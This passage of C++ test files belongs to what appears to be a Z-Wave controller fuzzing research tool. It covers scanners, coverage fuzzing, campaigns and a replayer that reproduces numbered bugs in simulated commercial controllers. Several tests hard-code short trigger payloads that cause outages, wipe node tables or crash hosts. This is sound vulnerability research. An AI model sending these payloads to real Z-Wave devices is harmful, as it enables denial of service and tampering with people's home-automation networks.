  }
}

TEST(CovFuzzTest, CorpusSaveLoadRoundTrips) {
  const auto result = run_cov(sim::DeviceModel::kD4_AeotecZw090, 5 * kMinute, 42);
  ASSERT_FALSE(result.corpus.empty());
  const std::string dir = testing::TempDir() + "zc_covfuzz_corpus";
  ASSERT_TRUE(CovFuzz::save_corpus(dir, result.corpus));
  const auto loaded = CovFuzz::load_corpus(dir);
  // Loading is fingerprint-ordered, not admission-ordered: compare as sets.
  std::set<Bytes> saved_set(result.corpus.begin(), result.corpus.end());
  std::set<Bytes> loaded_set(loaded.begin(), loaded.end());
  EXPECT_EQ(saved_set, loaded_set);
  // And loading twice is stable.
  EXPECT_EQ(loaded, CovFuzz::load_corpus(dir));
}

TEST(CovFuzzTest, ExtraSeedsWarmTheMap) {
  // Replaying a first run's corpus as extra seeds means the second run
  // re-admits those payloads during its (deduplicated) seed phase, so its
  // corpus is at least as rich from the start.
  const auto first = run_cov(sim::DeviceModel::kD4_AeotecZw090, 5 * kMinute, 42);
  CovFuzzConfig config;
  config.extra_seeds = first.corpus;
  const auto second = run_cov(sim::DeviceModel::kD4_AeotecZw090, 5 * kMinute, 43, config);
  EXPECT_GE(second.coverage.edges_hit(), first.coverage.edges_hit());
}

TEST(CovFuzzTest, JournalsCorpusSeedsWithTheFlagBit) {
  const std::string path = testing::TempDir() + "zc_covfuzz_test.jrnl";
  std::remove(path.c_str());
  {
    store::FindingsJournal journal;
    ASSERT_TRUE(journal.open(path));
    CovFuzzConfig config;
    config.journal = &journal;
    config.journal_shard_id = 7;
    const auto result =
        run_cov(sim::DeviceModel::kD4_AeotecZw090, 10 * kMinute, 42, config);
    ASSERT_FALSE(result.corpus.empty());
    ASSERT_FALSE(result.unique_bug_ids.empty());
  }
  // Reload: corpus-seed records carry the flag bit, findings stay flag 0,
  // and both kinds survive the on-disk round trip under record version 1.
  store::FindingsJournal journal;
  ASSERT_TRUE(journal.open(path));
  std::size_t seeds = 0;
  std::size_t findings = 0;
  for (const store::FindingRecord& record : journal.records()) {
    if (record.flags & store::FindingRecord::kCorpusSeedFlag) {
      ++seeds;
      EXPECT_EQ(record.bug_id, 0);
    } else {
      ++findings;
      EXPECT_GT(record.bug_id, 0);
    }
    EXPECT_EQ(record.shard_id, 7u);
  }
  EXPECT_GT(seeds, 0u);
  EXPECT_GT(findings, 0u);
}

TEST(CovFuzzParallelTest, MergedArtifactsAreJobCountInvariant) {
  auto run_with_jobs = [](std::size_t jobs) {
    sim::TestbedConfig testbed_config;
    testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
    testbed_config.seed = 42;
    CampaignConfig campaign_config;
    campaign_config.duration = 5 * kMinute;
    campaign_config.seed = 42;
    ParallelConfig parallel;
    parallel.jobs = jobs;
    parallel.fuzzer = FuzzerFamily::kCov;
    return run_trials_parallel(testbed_config, campaign_config, 4, parallel);
  };
  const auto one = run_with_jobs(1);
  const auto four = run_with_jobs(4);
  const auto eight = run_with_jobs(8);

  EXPECT_TRUE(one.merged_coverage() == four.merged_coverage());
  EXPECT_TRUE(one.merged_coverage() == eight.merged_coverage());
  EXPECT_EQ(one.merged_corpus(), four.merged_corpus());
  EXPECT_EQ(one.merged_corpus(), eight.merged_corpus());
  EXPECT_EQ(one.summary.union_bug_ids, four.summary.union_bug_ids);
  EXPECT_EQ(one.summary.union_bug_ids, eight.summary.union_bug_ids);
  EXPECT_EQ(one.summary.total_packets, eight.summary.total_packets);

  // Per-shard artifacts match slot for slot, too.
  ASSERT_EQ(one.shards.size(), eight.shards.size());
  for (std::size_t i = 0; i < one.shards.size(); ++i) {
    EXPECT_TRUE(one.shards[i].coverage == eight.shards[i].coverage);
    EXPECT_EQ(one.shards[i].corpus, eight.shards[i].corpus);
  }
}

TEST(CovFuzzParallelTest, PsmShardsCollectCoverageWhenAsked) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  testbed_config.seed = 42;
  CampaignConfig campaign_config;
  campaign_config.duration = 5 * kMinute;
  campaign_config.seed = 42;
  ParallelConfig parallel;
  parallel.jobs = 2;
  parallel.collect_coverage = true;
  const auto report = run_trials_parallel(testbed_config, campaign_config, 2, parallel);
  for (const ShardResult& shard : report.shards) {
    EXPECT_TRUE(shard.coverage_collected);
    EXPECT_FALSE(shard.coverage.empty());
    EXPECT_TRUE(shard.corpus.empty());  // admission is a cov-mode concept
  }
  EXPECT_GT(report.merged_coverage().edges_hit(), 0u);
}

}  // namespace
}  // namespace zc::core
