#include "core/scanner.h"

#include <gtest/gtest.h>

#include "sim/testbed.h"

namespace zc::core {
namespace {

TEST(PassiveScannerTest, RecoversHomeAndNodeIds) {
  sim::TestbedConfig config;
  config.controller_model = sim::DeviceModel::kD6_SamsungWv520;
  config.slave_report_interval = 10 * kSecond;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  PassiveScanner scanner(dongle);
  // Ask for enough packets that both slaves (10 s and 17 s cadence) show up.
  const auto result = scanner.scan(60 * kSecond, /*min_packets=*/6);

  ASSERT_TRUE(result.home_id.has_value());
  EXPECT_EQ(*result.home_id, 0xCB95A34A);  // Table IV row D6
  EXPECT_TRUE(result.node_ids.contains(0x01));
  EXPECT_TRUE(result.node_ids.contains(sim::Testbed::kSwitchNodeId));
  ASSERT_TRUE(result.controller.has_value());
  EXPECT_EQ(*result.controller, 0x01);
  EXPECT_GT(result.packets_analyzed, 0u);
}

TEST(PassiveScannerTest, InfersDeviceRolesFromTraffic) {
  sim::TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  PassiveScanner scanner(dongle);
  const auto result = scanner.scan(2 * kMinute, /*min_packets=*/24);

  ASSERT_TRUE(result.observations.contains(0x01));
  EXPECT_EQ(result.observations.at(0x01).role, NodeObservation::Role::kController);

  ASSERT_TRUE(result.observations.contains(sim::Testbed::kLockNodeId));
  EXPECT_EQ(result.observations.at(sim::Testbed::kLockNodeId).role,
            NodeObservation::Role::kSecureSlave);
  EXPECT_TRUE(result.observations.at(sim::Testbed::kLockNodeId).uses_s2);

  ASSERT_TRUE(result.observations.contains(sim::Testbed::kSwitchNodeId));
  EXPECT_EQ(result.observations.at(sim::Testbed::kSwitchNodeId).role,
            NodeObservation::Role::kLegacySlave);
  // The legacy switch's report class is visible in the clear.
  EXPECT_TRUE(
      result.observations.at(sim::Testbed::kSwitchNodeId).classes_seen.contains(0x25));

  ASSERT_TRUE(result.observations.contains(sim::Testbed::kS0SensorNodeId));
  EXPECT_TRUE(result.observations.at(sim::Testbed::kS0SensorNodeId).uses_s0);
  EXPECT_EQ(result.observations.at(sim::Testbed::kS0SensorNodeId).role,
            NodeObservation::Role::kSecureSlave);
}

TEST(PassiveScannerTest, ObservationTimestampsAreOrdered) {
  sim::TestbedConfig config;
  config.slave_report_interval = 10 * kSecond;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  PassiveScanner scanner(dongle);
  const auto result = scanner.scan(90 * kSecond, /*min_packets=*/10);
  for (const auto& [node, observation] : result.observations) {
    if (observation.frames_sent == 0) continue;
    EXPECT_LE(observation.first_seen, observation.last_seen) << int(node);
    EXPECT_GT(observation.last_seen, 0u) << int(node);
  }
}

TEST(PassiveScannerTest, WorksAgainstS2TrafficOnly) {
  // S2 encrypts only the application payload: addressing stays visible.
  sim::TestbedConfig config;
  config.slave_report_interval = 5 * kSecond;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  PassiveScanner scanner(dongle);
  const auto result = scanner.scan(30 * kSecond);
  ASSERT_TRUE(result.home_id.has_value());
  EXPECT_TRUE(result.node_ids.contains(sim::Testbed::kLockNodeId));
}

TEST(PassiveScannerTest, QuietNetworkYieldsNothing) {
  sim::TestbedConfig config;
  config.include_slaves = false;  // no ambient traffic
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  PassiveScanner scanner(dongle);
  const auto result = scanner.scan(10 * kSecond);
  EXPECT_FALSE(result.home_id.has_value());
  EXPECT_EQ(result.packets_analyzed, 0u);
}

TEST(ActiveScannerTest, ListsSupportedClasses) {
  sim::TestbedConfig config;
  config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  ActiveScanner scanner(dongle, testbed.controller().home_id(), 0x01, 0xE7);
  const auto result = scanner.scan();
  EXPECT_TRUE(result.reachable);
  EXPECT_EQ(result.listed.size(), 17u);  // Table IV: D4 lists 17 classes
  ASSERT_TRUE(result.node_info.has_value());
  EXPECT_EQ(result.node_info->basic_class, zwave::kBasicClassStaticController);
}

TEST(ActiveScannerTest, FifteenClassControllers) {
  sim::TestbedConfig config;
  config.controller_model = sim::DeviceModel::kD3_NortekHusbzb1;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  ActiveScanner scanner(dongle, testbed.controller().home_id(), 0x01, 0xE7);
  EXPECT_EQ(scanner.scan().listed.size(), 15u);
}

TEST(ActiveScannerTest, WrongHomeIdUnreachable) {
  sim::Testbed testbed(sim::TestbedConfig{});
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  ActiveScanner scanner(dongle, 0xDEADBEEF, 0x01, 0xE7);
  const auto result = scanner.scan();
  EXPECT_FALSE(result.reachable);
  EXPECT_TRUE(result.listed.empty());
}

}  // namespace
}  // namespace zc::core
