#include "core/packet_tester.h"

#include <gtest/gtest.h>

namespace zc::core {
namespace {

BugFinding make_finding(Bytes payload, DetectionKind kind, int bug_id) {
  BugFinding finding;
  finding.payload = std::move(payload);
  finding.cmd_class = finding.payload[0];
  finding.command = finding.payload.size() > 1 ? finding.payload[1] : 0;
  finding.kind = kind;
  finding.matched_bug_id = bug_id;
  finding.detected_at = 1234 * kMillisecond;
  return finding;
}

TEST(BugLogTest, SerializeParseRoundTrip) {
  std::vector<BugFinding> findings;
  findings.push_back(
      make_finding({0x5A, 0x01}, DetectionKind::kServiceInterruption, 7));
  findings.push_back(
      make_finding({0x01, 0x0D, 0x02, 0x02, 0x00}, DetectionKind::kMemoryTampering, 3));

  const std::string log = serialize_bug_log(findings);
  EXPECT_NE(log.find("zcover-log v1"), std::string::npos);

  std::size_t rejected = 0;
  const auto parsed = parse_bug_log(log, &rejected);
  EXPECT_EQ(rejected, 0u);
  ASSERT_EQ(parsed.size(), 2u);
  EXPECT_EQ(parsed[0].payload, (Bytes{0x5A, 0x01}));
  EXPECT_EQ(parsed[0].kind, DetectionKind::kServiceInterruption);
  EXPECT_EQ(parsed[0].bug_id, 7);
  EXPECT_EQ(parsed[1].payload.size(), 5u);
  EXPECT_EQ(parsed[1].detected_at, 1234 * kMillisecond);
}

TEST(BugLogTest, SkipsMalformedLines) {
  const std::string log =
      "zcover-log v1\n"
      "5a01 | service-interruption | 7 | 99\n"
      "not-hex | service-interruption | 1 | 0\n"
      "5a01 | bogus-kind | 1 | 0\n"
      "5a01 | memory-tampering\n";
  std::size_t rejected = 0;
  const auto parsed = parse_bug_log(log, &rejected);
  EXPECT_EQ(parsed.size(), 1u);
  EXPECT_EQ(rejected, 3u);
}

TEST(BugLogTest, HeaderIsStrictlyOptional) {
  // A file whose first non-empty line is a data line parses that line as
  // data — it is never consumed as a header.
  std::size_t rejected = 0;
  const auto parsed = parse_bug_log("5a01 | service-interruption | 7 | 99\n", &rejected);
  ASSERT_EQ(parsed.size(), 1u);
  EXPECT_EQ(rejected, 0u);
  EXPECT_EQ(parsed[0].payload, (Bytes{0x5A, 0x01}));
  EXPECT_EQ(parsed[0].bug_id, 7);
}

TEST(BugLogTest, MalformedFirstLineIsRejectedNotSwallowed) {
  const std::string log =
      "garbage first line\n"
      "5a01 | service-interruption | 7 | 99\n";
  std::size_t rejected = 0;
  const auto parsed = parse_bug_log(log, &rejected);
  ASSERT_EQ(parsed.size(), 1u);
  EXPECT_EQ(rejected, 1u);
  EXPECT_EQ(parsed[0].bug_id, 7);
}

TEST(BugLogTest, UnknownHeaderVersionCountsAsRejected) {
  const std::string log =
      "zcover-log v99\n"
      "5a01 | service-interruption | 7 | 99\n";
  std::size_t rejected = 0;
  const auto parsed = parse_bug_log(log, &rejected);
  EXPECT_EQ(parsed.size(), 1u);
  EXPECT_EQ(rejected, 1u);
}

TEST(BugLogTest, EmptyLog) {
  std::size_t rejected = 0;
  EXPECT_TRUE(parse_bug_log("zcover-log v1\n", &rejected).empty());
  EXPECT_EQ(rejected, 0u);
}

class PacketTesterTest : public ::testing::Test {
 protected:
  PacketTesterTest() {
    sim::TestbedConfig config;
    config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
    testbed_ = std::make_unique<sim::Testbed>(config);
    tester_ = std::make_unique<PacketTester>(*testbed_);
  }

  std::unique_ptr<sim::Testbed> testbed_;
  std::unique_ptr<PacketTester> tester_;
};

TEST_F(PacketTesterTest, ReproducesServiceInterruption) {
  LogEntry entry;
  entry.payload = {0x5A, 0x01};  // bug #07
  entry.kind = DetectionKind::kServiceInterruption;
  const auto result = tester_->replay(entry);
  EXPECT_TRUE(result.reproduced);
  EXPECT_EQ(result.observed_kind, DetectionKind::kServiceInterruption);
  EXPECT_GE(result.observed_outage, 68 * kSecond);
  EXPECT_LE(result.observed_outage, 69 * kSecond);
}

TEST_F(PacketTesterTest, ReproducesMemoryTampering) {
  LogEntry entry;
  entry.payload = {0x01, 0x0D, 0x02, 0x02, 0x00};  // bug #03: remove node 2
  entry.kind = DetectionKind::kMemoryTampering;
  const auto result = tester_->replay(entry);
  EXPECT_TRUE(result.reproduced);
  EXPECT_EQ(result.observed_kind, DetectionKind::kMemoryTampering);
}

TEST_F(PacketTesterTest, ReproducesHostCrash) {
  LogEntry entry;
  entry.payload = {0x9F, 0x01, 0x00};  // bug #06
  entry.kind = DetectionKind::kHostCrash;
  const auto result = tester_->replay(entry);
  EXPECT_TRUE(result.reproduced);
  EXPECT_EQ(result.observed_kind, DetectionKind::kHostCrash);
}

TEST_F(PacketTesterTest, BenignPayloadDoesNotReproduce) {
  LogEntry entry;
  entry.payload = {0x86, 0x11};  // VERSION GET: harmless
  const auto result = tester_->replay(entry);
  EXPECT_FALSE(result.reproduced);
}

TEST_F(PacketTesterTest, ReplayAllRestoresBetweenEntries) {
  std::vector<LogEntry> log;
  LogEntry overwrite;
  overwrite.payload = {0x01, 0x0D, 0x03, 0x00, 0x00};  // bug #04: wipe table
  log.push_back(overwrite);
  LogEntry remove;
  remove.payload = {0x01, 0x0D, 0x02, 0x02, 0x00};  // bug #03: remove node 2
  log.push_back(remove);

  const auto results = tester_->replay_all(log);
  ASSERT_EQ(results.size(), 2u);
  // Entry 2 only reproduces if the network was restored after entry 1
  // (otherwise node 2 is already gone and removal is a no-op).
  EXPECT_TRUE(results[0].reproduced);
  EXPECT_TRUE(results[1].reproduced);
}

TEST_F(PacketTesterTest, MinimizeStripsJunkTrailingBytes) {
  LogEntry entry;
  entry.payload = {0x5A, 0x01, 0xDE, 0xAD, 0xBE, 0xEF};  // bug #07 + junk
  entry.kind = DetectionKind::kServiceInterruption;
  const Bytes minimized = tester_->minimize(entry);
  EXPECT_LE(minimized.size(), 2u);
  EXPECT_EQ(minimized[0], 0x5A);
}

struct OutageCase {
  int bug_id;
  SimTime expected;
};

class OutageDurations : public ::testing::TestWithParam<OutageCase> {};

TEST_P(OutageDurations, ReplayMeasuresTableIIIDuration) {
  // The outage column of Table III, measured live: replay the trigger and
  // read the remaining-outage clock off the device.
  sim::TestbedConfig config;
  config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(config);
  PacketTester tester(testbed);

  const auto* spec = sim::find_vulnerability(GetParam().bug_id);
  ASSERT_NE(spec, nullptr);
  LogEntry entry;
  entry.payload = {spec->cmd_class, spec->command, 0x00};
  if (spec->cmd_class == 0x86) entry.payload[2] = 0x44;  // bug #10 needs a bogus class
  const auto result = tester.replay(entry);
  ASSERT_TRUE(result.reproduced) << "bug " << GetParam().bug_id;
  EXPECT_EQ(result.observed_kind, DetectionKind::kServiceInterruption);
  // observed = remaining + probing time, so it brackets the true duration
  // to within the probe's sub-second overhead.
  EXPECT_GE(result.observed_outage, GetParam().expected);
  EXPECT_LE(result.observed_outage, GetParam().expected + kSecond);
}

INSTANTIATE_TEST_SUITE_P(TableIII, OutageDurations,
                         ::testing::Values(OutageCase{7, 68 * kSecond},
                                           OutageCase{8, 67 * kSecond},
                                           OutageCase{9, 63 * kSecond},
                                           OutageCase{10, 4 * kSecond},
                                           OutageCase{11, 62 * kSecond},
                                           OutageCase{15, 59 * kSecond}),
                         [](const ::testing::TestParamInfo<OutageCase>& info) {
                           return "Bug" + std::to_string(info.param.bug_id);
                         });

TEST_F(PacketTesterTest, EndToEndCampaignLogReplay) {
  // Fuzz, log, parse the log back, and replay every finding: each must
  // reproduce — the paper's PoC verification loop.
  core::CampaignConfig config;
  config.mode = core::CampaignMode::kFull;
  config.duration = 2 * kHour;
  config.loop_queue = false;
  Campaign campaign(*testbed_, config);
  const auto result = campaign.run();
  ASSERT_EQ(result.findings.size(), 15u);

  const std::string log_text = serialize_bug_log(result.findings);
  const auto log = parse_bug_log(log_text);
  ASSERT_EQ(log.size(), 15u);

  const auto replays = tester_->replay_all(log);
  std::size_t reproduced = 0;
  for (const auto& replay : replays) {
    if (replay.reproduced) ++reproduced;
  }
  EXPECT_EQ(reproduced, 15u);
}

}  // namespace
}  // namespace zc::core
