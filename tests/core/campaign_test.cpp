#include "core/campaign.h"

#include <gtest/gtest.h>

#include <set>

namespace zc::core {
namespace {

CampaignConfig quick_config(CampaignMode mode, SimTime duration = 2 * kHour) {
  CampaignConfig config;
  config.mode = mode;
  config.duration = duration;
  config.loop_queue = false;
  return config;
}

std::set<int> found_bug_ids(const CampaignResult& result) {
  std::set<int> ids;
  for (const auto& finding : result.findings) {
    if (finding.matched_bug_id > 0) ids.insert(finding.matched_bug_id);
  }
  return ids;
}

TEST(CampaignTest, FingerprintMatchesTableIVRow) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull));
  const auto report = campaign.fingerprint();

  ASSERT_TRUE(report.passive.home_id.has_value());
  EXPECT_EQ(*report.passive.home_id, 0xC7E9DD54);
  EXPECT_EQ(report.active.listed.size(), 17u);
  EXPECT_EQ(report.discovery.unknown().size(), 28u);
  EXPECT_EQ(report.fuzz_queue.size(), 45u);
}

TEST(CampaignTest, FullModeFindsAllFifteenBugs) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull));
  const auto result = campaign.run();

  const auto ids = found_bug_ids(result);
  for (int bug = 1; bug <= 15; ++bug) {
    EXPECT_TRUE(ids.contains(bug)) << "missing bug #" << bug;
  }
  EXPECT_EQ(result.findings.size(), 15u);  // no duplicate signatures
  EXPECT_EQ(result.classes_fuzzed.size(), 45u);
  EXPECT_GT(result.test_packets, 0u);
}

TEST(CampaignTest, AcceptedPairCoverageMatchesTableV) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull));
  const auto result = campaign.run();
  EXPECT_EQ(result.accepted_pairs.size(), 53u);  // Table V "CMD" column
}

TEST(CampaignTest, BetaModeFindsEightBugs) {
  // Table VI: known CMDCLs only -> 8 unique vulnerabilities (everything in
  // the proprietary class 0x01 is out of reach).
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD1_ZoozZst10;  // ZooZ, §IV-D
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kKnownOnly, 1 * kHour));
  const auto result = campaign.run();

  const auto ids = found_bug_ids(result);
  EXPECT_EQ(ids, (std::set<int>{6, 7, 8, 9, 10, 11, 13, 15}));
}

TEST(CampaignTest, DeterministicForSameSeed) {
  auto run_once = [] {
    sim::TestbedConfig testbed_config;
    testbed_config.controller_model = sim::DeviceModel::kD2_SilabsUzb7;
    testbed_config.seed = 777;
    sim::Testbed testbed(testbed_config);
    CampaignConfig config = quick_config(CampaignMode::kFull, 30 * kMinute);
    config.seed = 4242;
    Campaign campaign(testbed, config);
    const auto result = campaign.run();
    std::vector<std::pair<int, std::uint64_t>> trace;
    for (const auto& finding : result.findings) {
      trace.emplace_back(finding.matched_bug_id, finding.packets_sent);
    }
    return std::make_pair(result.test_packets, trace);
  };
  const auto a = run_once();
  const auto b = run_once();
  EXPECT_EQ(a.first, b.first);
  EXPECT_EQ(a.second, b.second);
}

TEST(CampaignTest, FindingsCarryBugInducingPayloads) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull));
  const auto result = campaign.run();
  for (const auto& finding : result.findings) {
    ASSERT_GE(finding.payload.size(), 2u);
    EXPECT_EQ(finding.payload[0], finding.cmd_class);
    EXPECT_EQ(finding.payload[1], finding.command);
  }
}

TEST(CampaignTest, ServiceInterruptionBugsDetectedViaNopProbe) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull));
  const auto result = campaign.run();
  for (const auto& finding : result.findings) {
    if (finding.matched_bug_id >= 7 && finding.matched_bug_id <= 11) {
      EXPECT_EQ(finding.kind, DetectionKind::kServiceInterruption)
          << "bug " << finding.matched_bug_id;
    }
    if (finding.matched_bug_id >= 1 && finding.matched_bug_id <= 4) {
      EXPECT_EQ(finding.kind, DetectionKind::kMemoryTampering)
          << "bug " << finding.matched_bug_id;
    }
  }
}

TEST(CampaignTest, HubModelsReportAppDoSNotPcCrash) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD6_SamsungWv520;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull));
  const auto result = campaign.run();
  const auto ids = found_bug_ids(result);
  EXPECT_TRUE(ids.contains(5));    // smartphone-app DoS
  EXPECT_FALSE(ids.contains(6));   // no PC program on a hub
  EXPECT_FALSE(ids.contains(13));
}

TEST(CampaignTest, MostBugsFoundEarly) {
  // Fig. 12's shape: the bulk of the discoveries land in the initial
  // fuzzing phase thanks to CMDCL prioritization.
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD1_ZoozZst10;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull));
  const auto result = campaign.run();
  std::size_t early = 0;
  for (const auto& finding : result.findings) {
    if (finding.detected_at - result.started_at < 900 * kSecond) ++early;
  }
  EXPECT_GE(early, result.findings.size() / 2);
}

TEST(CampaignTest, TimelineIsMonotonic) {
  sim::Testbed testbed(sim::TestbedConfig{});
  Campaign campaign(testbed, quick_config(CampaignMode::kFull, 30 * kMinute));
  const auto result = campaign.run();
  ASSERT_GE(result.packet_timeline.size(), 2u);
  for (std::size_t i = 1; i < result.packet_timeline.size(); ++i) {
    EXPECT_GE(result.packet_timeline[i].first, result.packet_timeline[i - 1].first);
    EXPECT_GE(result.packet_timeline[i].second, result.packet_timeline[i - 1].second);
  }
}

TEST(CampaignTest, EncapsulationBombsDoNotBreakTheController) {
  // Deeply nested Multi Cmd / Supervision wrappers must neither crash the
  // firmware nor sneak a trigger past the depth guard differently than the
  // direct payload would.
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));

  // Build an 8-deep 0x8F nest around a VERSION GET.
  Bytes inner = {0x86, 0x11};
  for (int i = 0; i < 8; ++i) {
    Bytes wrapped = {0x8F, 0x01, 0x01, static_cast<std::uint8_t>(inner.size())};
    wrapped.insert(wrapped.end(), inner.begin(), inner.end());
    inner = wrapped;
    if (inner.size() > zwave::kMaxApplicationPayload) break;
  }
  zwave::MacFrame frame;
  frame.home_id = testbed.controller().home_id();
  frame.src = 0xE7;
  frame.dst = 0x01;
  frame.sequence = 1;
  frame.payload = inner;
  if (frame.payload.size() <= zwave::kMaxApplicationPayload) {
    attacker.send(frame);
  }
  testbed.scheduler().run_for(200 * kMillisecond);
  EXPECT_TRUE(testbed.controller().responsive());  // survived, no recursion blowup
}

TEST(CampaignTest, ConfirmationOracleSuppressesNoiseFalsePositives) {
  // A lossy channel with the inline confirmation oracle: every recorded
  // finding must be attributable; transient ack losses are filtered out.
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  testbed_config.channel.bit_flip_rate = 0.00005;
  sim::Testbed testbed(testbed_config);
  CampaignConfig config = quick_config(CampaignMode::kFull, 90 * kMinute);
  config.confirm_findings = true;
  Campaign campaign(testbed, config);
  const auto result = campaign.run();

  std::size_t unattributed = 0;
  for (const auto& finding : result.findings) {
    if (finding.matched_bug_id <= 0) ++unattributed;
  }
  EXPECT_EQ(unattributed, 0u);
  EXPECT_GE(found_bug_ids(result).size(), 13u);  // noise may hide a tail bug
}

TEST(CampaignTest, ResumeFromPriorLogSkipsKnownBugs) {
  // Session 1 finds everything; session 2, seeded with session 1's
  // payloads, reports nothing new and avoids re-triggering the outages.
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed first_bed(testbed_config);
  Campaign first(first_bed, quick_config(CampaignMode::kFull));
  const auto first_result = first.run();
  ASSERT_EQ(first_result.findings.size(), 15u);

  sim::Testbed second_bed(testbed_config);
  CampaignConfig resume_config = quick_config(CampaignMode::kFull, 1 * kHour);
  for (const auto& finding : first_result.findings) {
    resume_config.known_payloads.push_back(finding.payload);
  }
  Campaign second(second_bed, resume_config);
  const auto second_result = second.run();

  EXPECT_TRUE(second_result.findings.empty());
  // The known triggers were never re-sent: the device log stays clean of
  // service interruptions (only sweep-time residue like ghost-NIF host
  // DoS attribution is tolerated at zero here too).
  EXPECT_TRUE(second_bed.controller().triggered().empty());
  // And the resumed campaign is dramatically faster: no outage waits.
  EXPECT_LT(second_result.ended_at - second_result.started_at,
            first_result.ended_at - first_result.started_at);
}

TEST(CampaignTest, HardDeadlineBoundsSystematicPhase) {
  // A tiny global budget must bind mid-class: the systematic phase may not
  // overrun it by more than the in-flight test and a final recovery tail.
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, quick_config(CampaignMode::kFull, 30 * kSecond));
  const auto result = campaign.run();

  ASSERT_FALSE(result.packet_timeline.empty());
  const SimTime fuzz_started = result.packet_timeline.front().first;
  EXPECT_LT(result.ended_at - fuzz_started, 30 * kSecond + 2 * kMinute);
}

TEST(CampaignTest, MultiTrialAggregation) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  CampaignConfig config = quick_config(CampaignMode::kFull, 1 * kHour);
  const auto summary = run_trials(testbed_config, config, 3);
  EXPECT_EQ(summary.trials, 3u);
  ASSERT_EQ(summary.per_trial_unique.size(), 3u);
  for (std::size_t n : summary.per_trial_unique) EXPECT_EQ(n, 15u);
  EXPECT_EQ(summary.union_bug_ids.size(), 15u);
  EXPECT_GT(summary.total_packets, 0u);
  for (SimTime t : summary.first_finding_at) EXPECT_GT(t, 0u);
}

TEST(CampaignTest, RandomModeFindsFewerBugsThanFull) {
  // Table VI ordering: full (15) > gamma (~6) in one virtual hour.
  sim::TestbedConfig full_testbed_config;
  full_testbed_config.controller_model = sim::DeviceModel::kD1_ZoozZst10;
  sim::Testbed full_testbed(full_testbed_config);
  Campaign full(full_testbed, quick_config(CampaignMode::kFull, 1 * kHour));
  const auto full_result = full.run();

  sim::TestbedConfig gamma_testbed_config;
  gamma_testbed_config.controller_model = sim::DeviceModel::kD1_ZoozZst10;
  sim::Testbed gamma_testbed(gamma_testbed_config);
  Campaign gamma(gamma_testbed, quick_config(CampaignMode::kRandom, 1 * kHour));
  const auto gamma_result = gamma.run();

  EXPECT_GT(found_bug_ids(full_result).size(), found_bug_ids(gamma_result).size());
  EXPECT_GE(found_bug_ids(gamma_result).size(), 1u);
}

}  // namespace
}  // namespace zc::core
