// Parameterized sweeps: the full ZCover pipeline against every testbed
// controller, the Table III trigger matrix against every affected model,
// and the mutator against every class of the fuzz cluster.
#include <gtest/gtest.h>

#include <set>

#include "core/campaign.h"

namespace zc::core {
namespace {

// ---------------------------------------------------------------------------
// Campaign sweep over all seven controllers.
// ---------------------------------------------------------------------------

class CampaignPerDevice : public ::testing::TestWithParam<sim::DeviceModel> {};

TEST_P(CampaignPerDevice, FullCampaignFindsEveryApplicableBug) {
  sim::TestbedConfig testbed_config;
